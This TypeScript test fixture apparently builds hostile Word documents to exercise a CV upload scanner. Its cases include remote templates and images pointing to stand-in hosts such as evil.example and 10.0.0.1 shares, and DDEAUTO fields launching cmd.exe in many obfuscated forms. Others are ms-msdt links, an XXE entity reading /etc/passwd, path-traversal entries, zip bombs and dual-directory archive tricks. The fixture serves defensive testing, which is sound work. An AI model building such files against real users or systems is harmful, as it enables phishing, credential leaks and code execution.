import { crc32 } from 'node:zlib';
import { buildCfb } from './build-cfb.ts';
import { buildDoc } from './build-doc.ts';
import {
  buildDocx,
  buildXlsx,
  contentTypes,
  type DocxOptions,
  docxParts,
  field,
  relationships,
  wordXml,
} from './build-docx.ts';
import { buildPdf } from './build-pdf.ts';
import { buildZip, type ZipPart } from './build-zip.ts';
import { gif, type HostileCv, program } from './hostile-cv.ts';

const docx = (family: string, options: DocxOptions | Buffer, held: HostileCv['held']): HostileCv => ({
  family: `DOCX: ${family}`,
  name: 'cv.docx',
  bytes: Buffer.isBuffer(options) ? options : buildDocx(options),
  held,
});

const settingsType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml';
/** A document whose settings lead to a template. */
const withTemplate = (target: string, mode: string, rels?: string): DocxOptions => ({
  relationships: [{ type: 'settings', target: 'settings.xml' }],
  types: { '/word/settings.xml': settingsType },
  parts: [
    {
      name: 'word/settings.xml',
      content:
        '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>',
    },
    {
      name: 'word/_rels/settings.xml.rels',
      content: rels ?? relationships([{ type: 'attachedTemplate', target, mode }]),
    },
  ],
});

/** Addresses that Word would fetch from when it opens the file. */
const elsewhere = [
  '\\\\10.0.0.1\\share\\x',
  'file://10.0.0.1/share/x',
  'file:////10.0.0.1/share/x',
  'file:///\\\\10.0.0.1\\share\\x',
  'file:\\\\10.0.0.1\\share\\x',
  '//10.0.0.1/share/x',
  'https://evil.example/x',
  'http://evil.example@80/x',
  '\\\\evil.example@SSL\\DavWWWRoot\\x',
  'mhtml:http://evil.example/x!x-usc:http://evil.example/x',
  'ftp://evil.example/x',
  'h&#116;tps://evil.example/x',
];

function fetched(): HostileCv[] {
  const rels = (xml: string) => withTemplate('', '', xml);
  const type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
  const ns = 'http://schemas.openxmlformats.org/package/2006/relationships';
  return [
    ...elsewhere.map((target) =>
      docx('a template from elsewhere', withTemplate(target, 'External'), 'fetches'),
    ),
    docx('a template from elsewhere', withTemplate('https://evil.example/x', 'E&#x78;ternal'), 'fetches'),
    docx('a template from elsewhere', withTemplate('https://evil.example/x', 'external'), 'fetches'),
    docx('a template from elsewhere', withTemplate('https://evil.example/x', ' External '), 'fetches'),
    docx(
      'a template from elsewhere',
      rels(
        `<odd:Relationships xmlns:odd="${ns}"><odd:Relationship Id="r" Type="${type}" Target="//evil/x" TargetMode="External"/></odd:Relationships>`,
      ),
      'fetches',
    ),
    docx(
      'a template from elsewhere',
      rels(
        `<Relationships xmlns="${ns}"><Relationship Id=">" Type="${type}" Target="//evil/x" TargetMode="External"/></Relationships>`,
      ),
      'fetches',
    ),
    docx(
      'a template from elsewhere',
      rels(
        `<Relationships xmlns="${ns}"><Relationship TargetMode='External' Target='//evil/x' Type='${type}' Id='r'></Relationship></Relationships>`,
      ),
      'fetches',
    ),
    // Two attributes of one name: which one counts is up to the reader.
    docx(
      'a template from elsewhere',
      rels(
        `<Relationships xmlns="${ns}" xmlns:x="urn:x"><Relationship x:Type="${type.replace('attachedTemplate', 'hyperlink')}" x:Target="https://example.com" Id="r" Type="${type}" Target="//evil/x" TargetMode="External"/></Relationships>`,
      ),
      'damaged',
    ),
    docx(
      'a template from elsewhere',
      rels(
        `<Relationships xmlns="${ns}" xmlns:x="urn:x"><Relationship x:TargetMode="Internal" Id="r" Type="${type}" Target="a.dotm"/></Relationships>`,
      ),
      'damaged',
    ),
    ...[
      'image',
      'frame',
      'oleObject',
      'subDocument',
      'mailMergeSource',
      'audio',
      'font',
      'customXml',
    ].flatMap((kind) =>
      elsewhere
        .slice(0, 3)
        .map((target) =>
          docx(
            `${kind} from elsewhere`,
            { relationships: [{ type: kind, target, mode: 'External' }] },
            'fetches',
          ),
        ),
    ),
    docx(
      'image from elsewhere',
      {
        relationships: [
          {
            type: 'http://purl.oclc.org/ooxml/officeDocument/relationships/image',
            target: '//evil/x',
            mode: 'External',
          },
        ],
      },
      'fetches',
    ),
    docx('image from elsewhere', { relationships: [{ type: 'image', target: 'file://evil/x' }] }, 'fetches'),
    // What a link names is fetched where a picture names the link.
    docx(
      'image from elsewhere',
      {
        relationships: [{ type: 'hyperlink', target: 'https://evil.example/x.png', mode: 'External' }],
        body: '<w:p><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="rId1"/></w:p>',
      },
      'fetches',
    ),
    docx(
      'a template from elsewhere',
      withTemplate(
        '',
        '',
        relationships([{ type: 'hyperlink', target: 'https://evil.example/x.dotm', mode: 'External' }]),
      ),
      'fetches',
    ),
    docx(
      'image from elsewhere',
      { body: '<w:p><w:pict><v:shape><v:imagedata src="\\\\evil\\x.png"/></v:shape></w:pict></w:p>' },
      'fetches',
    ),
    docx(
      'image from elsewhere',
      {
        body: '<w:p><w:object><o:OLEObject Type="Link" ProgID="Word.Document" r:id="rId1"/></w:object></w:p>',
      },
      'fetches',
    ),
    ...[
      'file://10.0.0.1/x',
      '\\\\10.0.0.1\\x',
      'javascript:alert(1)',
      'ms-msdt:/id',
      'search-ms:query=x',
      'file:///C:/Windows/System32/calc.exe',
    ].map((target) =>
      docx(
        'a link to something else',
        { relationships: [{ type: 'hyperlink', target, mode: 'External' }] },
        'oddLink',
      ),
    ),
    docx(
      'a link to something else',
      {
        parts: [
          {
            name: 'docProps/app.xml',
            content:
              '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><HyperlinkBase>file://evil/</HyperlinkBase></Properties>',
          },
        ],
      },
      'oddLink',
    ),
  ];
}

const utf16 = (text: string): Buffer =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text.replace('UTF-8', 'UTF-16'), 'utf16le')]);
const replaceDocument = (content: string | Buffer): Buffer =>
  buildZip(docxParts().map((part) => (part.name === 'word/document.xml' ? { ...part, content } : part)));

function fields(): HostileCv[] {
  const simple = (instruction: string) =>
    `<w:p><w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`;
  const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
  const text = (words: string) => `<w:r><w:instrText>${words}</w:instrText></w:r>`;
  const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
  const nested = `<w:p>${begin}${begin}${text('QUOTE 68 68 69')}${end}${text('AUTO c:\\\\windows\\\\cmd.exe')}${end}</w:p>`;
  const halfNested = `<w:p>${begin}${text('DD')}${begin}${text('QUOTE 69')}${end}${text(' c:\\\\cmd.exe')}${end}</w:p>`;
  const split = field(' DD', 'EAU', 'TO ', 'c:\\\\Windows\\\\System32\\\\cmd.exe');
  const bodies = [
    field('DDE cmd "/c calc"'),
    field(' DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"'),
    split,
    split.replaceAll('w:r>', 'w:r >'),
    nested,
    halfNested,
    field('"DDEAUTO" c:\\\\cmd.exe'),
    field('dDeAuTo c:\\\\cmd.exe'),
    field('&#68;&#68;E c:\\\\cmd.exe'),
    simple('DDEAUTO c:\\\\cmd.exe'),
    simple('INCLUDEPICTURE "//evil/x.png"'),
    field('INCLUDEPICTURE "http://evil.example/x.png" \\d'),
    field('INCLUDETEXT "\\\\\\\\evil\\\\x.docx"'),
    field('INCLUDE "\\\\\\\\evil\\\\x.docx"'),
    field('IMPORT "\\\\\\\\evil\\\\x.png"'),
    field('LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls" a'),
    field('RD "\\\\\\\\evil\\\\x.docx"'),
    field('DATABASE \\d "\\\\\\\\evil\\\\x.mdb"'),
    field('MACROBUTTON AutoOpen click'),
    field('PRINT 27'),
    field('SOMETHINGNEW x'),
    `<w:p>${begin}${text('DDEAUTO c:\\\\cmd.exe')}</w:p>`,
    `<w:p>${text('DDEAUTO c:\\\\cmd.exe')}</w:p>`,
    `<w:p>${begin}<w:del><w:r><w:delInstrText>DDEAUTO c:\\\\cmd.exe</w:delInstrText></w:r></w:del>${end}</w:p>`,
  ];
  const odd = wordXml(field('DDEAUTO c:\\\\cmd.exe')).replaceAll('w:', 'q:').replace('xmlns:w=', 'xmlns:q=');
  const inTwo = `${text('DD')}${text('EAUTO c:\\\\cmd.exe')}${end}`;
  const other = 'xmlns:x="urn:schemas-microsoft-com:x"';
  const passedOver = (content: string) =>
    `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="zz">${content}</mc:Choice></mc:AlternateContent>`;
  /** What we would read and Word would not, or the other way round. */
  const halfSeen: readonly (readonly [string, HostileCv['held']])[] = [
    [`<w:fldSimple ${other} x:instr="PAGE" w:instr="DDEAUTO c:\\cmd.exe"/>`, 'damaged'],
    [`<w:fldSimple instr="PAGE" w:instr="DDEAUTO c:\\cmd.exe"/>`, 'damaged'],
    [`${begin}${passedOver(text('PAGE '))}${text('DDEAUTO c:\\cmd.exe')}${end}`, 'field'],
    [`${begin}${passedOver(end)}${inTwo}`, 'field'],
    [`${begin}<w:smartTag>${passedOver(end)}</w:smartTag>${inTwo}`, 'field'],
    [`${begin}<x:drop ${other}>${end}</x:drop>${inTwo}`, 'field'],
    [
      `${begin}<w:r><w:pict><v:shape><v:textbox><w:txbxContent>${end}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>${inTwo}`,
      'field',
    ],
    [`${begin}<x:fldSimple ${other}/>${inTwo}`, 'hidden'],
    [`${begin}<w:r><x:fldChar ${other} fldCharType="end"/></w:r>${inTwo}`, 'hidden'],
    [`${begin}<w:r><x:fldChar xmlns:x="urn:x" w:fldCharType="end"/></w:r>${inTwo}`, 'hidden'],
    [`${begin}<w:r><w:fldChar w:fldCharType="End"/></w:r>${inTwo}`, 'hidden'],
    [`${begin}<w:fldSimple w:instr="PAGE">${end}</w:fldSimple>${inTwo}`, 'field'],
    [`<w:r><w:instrText><x:y ${other}/>DDEAUTO c:\\cmd.exe</w:instrText></w:r>`, 'field'],
    [`${begin}<w:r><w:instrText>PAGE <w:t>x</w:t></w:instrText></w:r>${end}`, 'field'],
    [`${begin}<w:r><w:t>DDEAUTO c:\\cmd.exe</w:t></w:r>${end}`, 'field'],
    [`${begin}<w:r><w:t>PAGE </w:t></w:r>${text('DDEAUTO c:\\cmd.exe')}${end}`, 'field'],
    [
      `${begin}<w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>${text('DDEAUTO c:\\cmd.exe')}${end}`,
      'field',
    ],
    [`${begin}<w:del>${text('PAGE ')}</w:del>${text('DDEAUTO c:\\cmd.exe')}${end}`, 'field'],
  ];
  const secret = field('DDEAUTO c:\\\\cmd.exe');
  const header = (name: string, more: DocxOptions = {}, content: string | Buffer = wordXml(secret)) =>
    ({
      relationships: [{ type: 'header', target: `/${name}` }],
      parts: [{ name, content }],
      ...more,
    }) satisfies DocxOptions;
  return [
    ...halfSeen.map(([inner, held]) => docx('a field half seen', { body: `<w:p>${inner}</w:p>` }, held)),
    docx(
      'a field in what looks like data',
      { documentName: 'customXml/document.xml', body: secret },
      'field',
    ),
    docx('a field in what looks like data', header('customXml/item1.xml'), 'field'),
    docx(
      'a field in what looks like data',
      {
        relationships: [
          { type: 'customXml', target: '../customXml/item1.xml' },
          { type: 'footer', target: '../CustomXML/Item1.xml' },
        ],
        parts: [{ name: 'customXml/item1.xml', content: wordXml(secret) }],
      },
      'field',
    ),
    // Read by the relationship that leads there, whatever type the list of types gives it.
    ...['font/x', 'application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings'].map(
      (type) =>
        docx(
          'a field in what looks like a font',
          header('word/a.odttf', { types: { '/word/a.odttf': type } }),
          'unknownPart',
        ),
    ),
    docx(
      'a field in what looks like a picture',
      header(
        'word/a.png',
        { defaults: { png: 'image/png' } },
        Buffer.from(wordXml(secret).replace('UTF-8', 'UTF-16'), 'utf16le'),
      ),
      'unknownPart',
    ),
    docx(
      'a field under a name in disguise',
      {
        relationships: [{ type: 'header', target: 'header1.fnt' }],
        parts: [{ name: 'word/%68eader1.fnt', content: wordXml(secret) }],
        defaults: { fnt: 'font/x' },
      },
      'unknownPart',
    ),
    docx(
      'a field under a name in disguise',
      {
        relationships: [{ type: 'header', target: 'a//header1.fnt' }],
        parts: [{ name: 'word/a//header1.fnt', content: wordXml(secret) }],
        defaults: { fnt: 'font/x' },
      },
      'unknownPart',
    ),
    ...[' header1.fnt', 'header1.fnt#x'].map((target) =>
      docx(
        'a field under a name in disguise',
        {
          relationships: [{ type: 'header', target }],
          parts: [{ name: `word/${target}`, content: wordXml(secret) }],
          defaults: { fnt: 'font/x', 'fnt#x': 'font/x' },
        },
        'unknownPart',
      ),
    ),
    docx(
      'a field in what looks like a font',
      {
        parts: [{ name: 'word/a.odttf', content: wordXml(secret) }],
        types: { '/word/a.odttf': 'font/x' },
      },
      'embeddedObject',
    ),
    docx('a field in a table of relationships', header('word/header1.rels'), 'unknownPart'),
    ...bodies.map((body) => docx('a field that runs or fetches', { body }, 'field')),
    docx('a field that runs or fetches', { body: field('CONTROL Forms.HTML') }, 'control'),
    docx('a field that runs or fetches', { body: field('HYPERLINK "file://10.0.0.1/x"') }, 'oddLink'),
    docx('a field that runs or fetches', { body: field('HYPERLINK \\\\\\\\10.0.0.1\\\\x') }, 'oddLink'),
    docx('a field that runs or fetches', replaceDocument(odd), 'field'),
    docx(
      'a field that runs or fetches',
      replaceDocument(utf16(wordXml(field('DDEAUTO c:\\\\cmd.exe')))),
      'field',
    ),
    docx(
      'a field that runs or fetches',
      replaceDocument(
        wordXml(field('DDEAUTO c:\\\\cmd.exe')).replace(
          /http:\/\/schemas.openxmlformats.org\/wordprocessingml\/2006\/main/,
          'http://purl.oclc.org/ooxml/wordprocessingml/main',
        ),
      ),
      'field',
    ),
    docx(
      'a field in a header',
      {
        relationships: [{ type: 'header', target: 'header1.xml' }],
        parts: [{ name: 'word/header1.xml', content: wordXml(field('DDEAUTO c:\\\\cmd.exe')) }],
      },
      'field',
    ),
    docx(
      'a field in a part of any name',
      {
        relationships: [{ type: 'footer', target: '/odd/Thing.XML' }],
        parts: [{ name: 'odd/thing.xml', content: wordXml(field('DDEAUTO x')) }],
      },
      'field',
    ),
  ];
}

function embedded(): HostileCv[] {
  const macroBook = buildXlsx({
    main: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
    relationships: [
      { type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' },
    ],
    parts: [{ name: 'xl/vbaProject.bin', content: 'x' }],
  });
  const oldMacros = buildXlsx({
    relationships: [
      {
        type: 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
        target: 'macrosheets/sheet1.xml',
      },
    ],
  });
  const dde = buildXlsx({
    relationships: [{ type: 'externalLink', target: 'externalLinks/externalLink1.xml' }],
  });
  const formula = buildXlsx({
    relationships: [{ type: 'worksheet', target: 'worksheets/sheet1.xml' }],
    parts: [
      {
        name: 'xl/worksheets/sheet1.xml',
        content:
          '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c><f>cmd|\'/c calc\'!A0</f></c></row></sheetData></worksheet>',
      },
    ],
  });
  const macroDoc = buildDocx({ documentType: 'application/vnd.ms-word.document.macroEnabled.main+xml' });
  const packaged = (
    content: Buffer | string,
    name = 'word/embeddings/Microsoft_Excel_Sheet.xlsx',
    kind = 'package',
  ): DocxOptions => ({
    relationships: [{ type: kind, target: name.replace('word/', '') }],
    parts: [{ name, content }],
    defaults: {
      xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      docx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      bin: 'application/vnd.openxmlformats-officedocument.oleObject',
      jpg: 'image/jpeg',
    },
  });
  const oleObject = (parts: Parameters<typeof buildCfb>[0], classId?: string) => buildCfb(parts, classId);
  const family = 'an object inside';
  return [
    docx(family, packaged(macroBook), 'macro'),
    docx(family, packaged(oldMacros), 'macro'),
    docx(family, packaged(dde), 'fetches'),
    docx(family, packaged(formula), 'field'),
    docx(family, packaged(macroDoc, 'word/embeddings/a.docx'), 'macro'),
    docx(
      family,
      packaged(buildDocx(withTemplate('//evil/x', 'External')), 'word/embeddings/a.docx'),
      'fetches',
    ),
    docx(family, packaged(buildDocx(packaged(macroBook)), 'word/embeddings/a.docx'), 'macro'),
    docx(family, packaged(program), 'embeddedObject'),
    docx(family, packaged(program, 'word/embeddings/oleObject1.bin', 'oleObject'), 'embeddedObject'),
    docx(family, packaged(buildPdf(), 'word/embeddings/oleObject1.bin', 'oleObject'), 'embeddedObject'),
    docx(
      family,
      packaged(
        oleObject([{ name: '\u0001Ole10Native', content: program }]),
        'word/embeddings/oleObject1.bin',
        'oleObject',
      ),
      'embeddedObject',
    ),
    docx(
      family,
      packaged(
        oleObject([{ name: 'Equation Native' }], '02ce020000000000c000000000000046'),
        'word/embeddings/oleObject1.bin',
        'oleObject',
      ),
      'embeddedObject',
    ),
    docx(
      family,
      packaged(
        oleObject([{ name: 'Package', content: macroDoc }]),
        'word/embeddings/oleObject1.bin',
        'oleObject',
      ),
      'embeddedObject',
    ),
    docx(
      family,
      packaged(
        buildDoc({ parts: [{ name: 'Macros', children: [] }] }),
        'word/embeddings/oleObject1.bin',
        'oleObject',
      ),
      'macro',
    ),
    docx(
      family,
      packaged(
        oleObject([{ name: '\u0001Ole10Native', content: program }]),
        'word/media/image1.jpg',
        'oleObject',
      ),
      'embeddedObject',
    ),
    docx(
      family,
      packaged(
        oleObject([{ name: '\u0001Ole10Native', content: program }]),
        'word/media/image1.jpg',
        'image',
      ),
      'embeddedObject',
    ),
    docx(family, packaged(program, 'word/media/image1.jpg', 'image'), 'embeddedObject'),
    docx(
      family,
      packaged('<html><script>1</script></html>', 'word/media/image1.jpg', 'image'),
      'embeddedObject',
    ),
    docx(
      family,
      packaged(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        'word/media/image1.jpg',
        'image',
      ),
      'script',
    ),
    docx(
      family,
      packaged(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file://evil/x"/></svg>',
        'word/media/image1.jpg',
        'image',
      ),
      'fetches',
    ),
    docx(family, { parts: [{ name: 'word/media/run.exe', content: program }] }, 'embeddedObject'),
    docx(
      family,
      { parts: [{ name: 'customXml/item1.bin', content: buildCfb([{ name: 'Macros' }]) }] },
      'embeddedObject',
    ),
    docx(
      'a chunk of another format',
      {
        body: '<w:altChunk r:id="rId1"/>',
        relationships: [{ type: 'aFChunk', target: 'chunk.rtf' }],
        parts: [{ name: 'word/chunk.rtf', content: '{\\rtf1}' }],
      },
      'embeddedObject',
    ),
    docx(
      'a chunk of another format',
      {
        relationships: [{ type: 'aFChunk', target: 'chunk.xml' }],
        parts: [{ name: 'word/chunk.xml', content: '<a/>' }],
      },
      'embeddedObject',
    ),
    docx('a chunk of another format', { body: '<w:altChunk/>' }, 'embeddedObject'),
    docx('a chunk of another format', { body: '<w:subDoc r:id="rId1"/>' }, 'fetches'),
  ];
}

function programs(): HostileCv[] {
  const microsoft = 'http://schemas.microsoft.com/office/2006/relationships';
  const part = (name: string, type: string, relationship: string): DocxOptions => ({
    relationships: [{ type: relationship, target: `/${name}` }],
    types: { [`/${name}`]: type },
    parts: [{ name, content: name.endsWith('xml') ? '<a/>' : 'x' }],
  });
  return [
    docx('macros', { documentType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }, 'macro'),
    docx(
      'macros',
      { documentType: 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml' },
      'macro',
    ),
    docx(
      'macros',
      part('word/vbaProject.bin', 'application/vnd.ms-office.vbaProject', `${microsoft}/vbaProject`),
      'macro',
    ),
    docx(
      'macros',
      part('word/VBAPROJECT.BIN', 'application/vnd.ms-office.vbaProject', `${microsoft}/VbaProject`),
      'macro',
    ),
    docx(
      'macros',
      part('word/theme/theme9.xml', 'application/vnd.ms-office.vbaProject', `${microsoft}/vbaProject`),
      'macro',
    ),
    docx('macros', part('word/harmless.dat', 'application/octet-stream', `${microsoft}/vbaProject`), 'macro'),
    docx(
      'macros',
      part('word/vbaData.xml', 'application/vnd.ms-word.vbaData+xml', `${microsoft}/wordVbaData`),
      'macro',
    ),
    docx(
      'macros',
      part(
        'word/customizations.xml',
        'application/vnd.ms-word.keyMapCustomizations+xml',
        `${microsoft}/keyMapCustomizations`,
      ),
      'macro',
    ),
    docx(
      'macros',
      part('customUI/customUI.xml', 'application/xml', `${microsoft}/ui/extensibility`),
      'macro',
    ),
    docx(
      'macros',
      {
        parts: [
          {
            name: 'docProps/custom.xml',
            content:
              '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property name="_AssemblyLocation"/></Properties>',
          },
        ],
      },
      'macro',
    ),
    docx(
      'a control',
      part('word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml', 'control'),
      'control',
    ),
    docx('a control', part('odd/place.xml', 'application/vnd.ms-office.activeX+xml', 'control'), 'control'),
    docx('a control', part('odd/place.xml', 'application/xml', 'control'), 'control'),
    docx(
      'a control',
      part(
        'word/activeX/activeX1.bin',
        'application/vnd.ms-office.activeX',
        `${microsoft}/activeXControlBinary`,
      ),
      'control',
    ),
    docx(
      'a control',
      { body: '<w:p><w:r><w:object><w:control r:id="rId1"/></w:object></w:r></w:p>' },
      'control',
    ),
    docx(
      'a control',
      part(
        'word/webextensions/webextension1.xml',
        'application/vnd.ms-office.webextension+xml',
        'http://schemas.microsoft.com/office/2011/relationships/webextension',
      ),
      'control',
    ),
    docx(
      'an unknown part',
      part('word/new.xml', 'application/vnd.unheard.of+xml', 'http://evil.example/relationships/newThing'),
      'unknownPart',
    ),
    docx('an unknown part', part('word/new.dat', 'application/vnd.unheard.of', 'image'), 'unknownPart'),
    docx('media', part('word/media/a.mp4', 'video/mp4', 'video'), 'media'),
  ];
}

function archives(): HostileCv[] {
  const parts = docxParts();
  const plain = buildZip(parts);
  const zeroes = Buffer.alloc(50 * 1024 * 1024);
  const documentOf = (content: string | Buffer) =>
    parts.map((part): ZipPart => (part.name === 'word/document.xml' ? { ...part, content } : part));
  const doctype = wordXml('').replace('?>\n', '?>\n<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>');
  const family = 'a crooked archive';
  const secretBody = field('DDEAUTO c:\\\\cmd.exe');
  const secretXml = wordXml(secretBody);
  const withFonts = docxParts({ defaults: { fnt: 'font/x' } });
  const twice = buildZip([...parts, ...docxParts({ body: secretBody })]);
  const endAt = twice.length - 22;
  const firstAt = twice.readUInt32LE(endAt + 16);
  const secondAt = firstAt + (endAt - firstAt) / 2;
  /** The end of a directory that says what it likes. */
  const endOf = (count: number, size: number, offset: number): Buffer => {
    const record = Buffer.from(twice.subarray(endAt));
    record.writeUInt16LE(count, 8);
    record.writeUInt16LE(count, 10);
    record.writeUInt32LE(size, 12);
    record.writeUInt32LE(offset, 16);
    return record;
  };
  const harmlessFirst = [twice.subarray(0, secondAt), endOf(parts.length, secondAt - firstAt, firstAt)];
  const secretDirectory = twice.subarray(secondAt, endAt);
  const secretAt = secondAt + 22;
  return [
    docx(family, plain.subarray(0, plain.length - 22), 'damaged'),
    // Two directories, of which we would read one and an office program the other.
    docx(
      family,
      Buffer.concat([
        ...harmlessFirst,
        secretDirectory,
        Buffer.from('\n'),
        endOf(parts.length, secretDirectory.length, secretAt),
      ]),
      'damaged',
    ),
    docx(
      family,
      Buffer.concat([
        ...harmlessFirst,
        secretDirectory,
        Buffer.from('PK\x06\x06'),
        Buffer.alloc(52),
        Buffer.from('PK\x06\x07'),
        Buffer.alloc(16),
        endOf(0xffff, 0xffffffff, 0xffffffff),
      ]),
      'damaged',
    ),
    docx(
      family,
      Buffer.concat([twice.subarray(0, endAt), endOf(parts.length, secretDirectory.length, firstAt)]),
      'damaged',
    ),
    docx(
      family,
      Buffer.concat([twice.subarray(0, endAt), endOf(parts.length, endAt - firstAt, firstAt)]),
      'damaged',
    ),
    // Names that read in two ways.
    docx(
      family,
      buildZip([...withFonts, { name: 'word/a.fnt', localName: 'word/b.xml', content: secretXml }]),
      'damaged',
    ),
    docx(
      family,
      buildZip([
        ...withFonts,
        { name: 'word/b.xml', content: secretXml, extra: [0x7075, unicodePath('word/b.xml', 'word/a.fnt')] },
      ]),
      'damaged',
    ),
    docx(
      family,
      {
        defaults: { png: 'image/png', PNG: 'application/vnd.ms-office.vbaProject' },
        parts: [{ name: 'a.png', content: gif }],
      },
      'damaged',
    ),
    docx(family, buildZip([...parts, { name: 'word/é.png', content: gif }]), 'damaged'),
    docx(family, buildZip([...parts, { name: escapedAgainAndAgain, content: gif }]), 'damaged'),
    docx(
      family,
      { types: Object.fromEntries([1, 2, 3].map((i) => [`/${i}${escapedAgainAndAgain}`, settingsType])) },
      'damaged',
    ),
    docx(
      family,
      { relationships: [1, 2, 3].map((i) => ({ type: 'header', target: `${i}${escapedAgainAndAgain}` })) },
      'damaged',
    ),
    docx(family, buildZip([...parts, { name: 'word/header1.xml\0.png', content: gif }]), 'damaged'),
    docx(family, Buffer.concat([plain, program]), 'mixed'),
    docx(family, Buffer.concat([plain, Buffer.from('<html><script>1</script></html>')]), 'mixed'),
    docx(family, Buffer.concat([plain, Buffer.alloc(5000, 1)]), 'mixed'),
    docx(family, buildZip([{ name: 'a.txt', content: buildPdf(), stored: true }, ...parts]), 'mixed'),
    docx(family, buildZip([...parts, { name: 'word/a.xml', content: zeroes }]), 'tooLargeInside'),
    docx(
      family,
      buildZip([
        ...parts,
        { name: 'word/a.xml', content: zeroes, declaredSize: 100 },
        ...[
          {
            name: 'word/_rels/document.xml.rels',
            content: relationships([{ type: 'header', target: 'a.xml' }]),
          },
        ],
      ]),
      'damaged',
    ),
    docx(
      family,
      buildZip(
        Array.from({ length: 5000 }, (_, i): ZipPart => parts[i] ?? { name: `word/${i}.xml`, content: '' }),
      ),
      'tooLargeInside',
    ),
    docx(
      family,
      buildZip([...parts, { name: 'WORD/DOCUMENT.XML', content: wordXml(field('DDEAUTO x')) }]),
      'hidden',
    ),
    docx(family, buildZip([...parts, { name: 'word/document.xml', content: wordXml('') }]), 'hidden'),
    docx(family, buildZip([...parts, { name: '../../etc/cron.d/x', content: 'x' }]), 'damaged'),
    docx(family, buildZip([...parts, { name: '/etc/passwd', content: 'x' }]), 'damaged'),
    docx(family, buildZip([...parts, { name: 'C:\\Windows\\x.xml', content: 'x' }]), 'damaged'),
    docx(
      family,
      buildZip(parts.map((part) => (part.name === 'word/document.xml' ? { ...part, method: 99 } : part))),
      'damaged',
    ),
    docx(family, buildZip(documentOf('hello')), 'damaged'),
    docx(family, buildZip(documentOf(wordXml('<w:p>'))), 'damaged'),
    docx(family, buildZip(documentOf(doctype)), 'damaged'),
    docx(
      family,
      buildZip(documentOf(Buffer.from(wordXml('<w:p>é</w:p>').replace('UTF-8', 'IBM037'), 'latin1'))),
      'damaged',
    ),
    docx(family, buildZip(documentOf(wordXml('<undeclared:p/>'))), 'damaged'),
    docx(family, buildZip([contentTypes(), ...parts.slice(2)]), 'damaged'),
    { ...docx(family, plain, 'otherType'), name: 'cv.doc' },
    { ...docx(family, plain, 'otherType'), name: 'cv.pdf' },
    { ...docx(family, buildPdf(), 'otherType') },
    { ...docx(family, Buffer.concat([gif, buildPdf()]), 'otherType') },
  ];
}

/** Each time it is decoded it is another name, and shorter by two letters only. */
const escapedAgainAndAgain = `word/%${'25'.repeat(8000)}41.png`;

/** Info-ZIP's field by which a part has another name. */
function unicodePath(name: string, other: string): Buffer {
  const field = Buffer.alloc(5 + Buffer.byteLength(other));
  field[0] = 1;
  field.writeUInt32LE(crc32(name), 1);
  field.write(other, 5);
  return field;
}

export const hostileDocxs = (): HostileCv[] => [
  ...fetched(),
  ...fields(),
  ...embedded(),
  ...programs(),
  ...archives(),
];
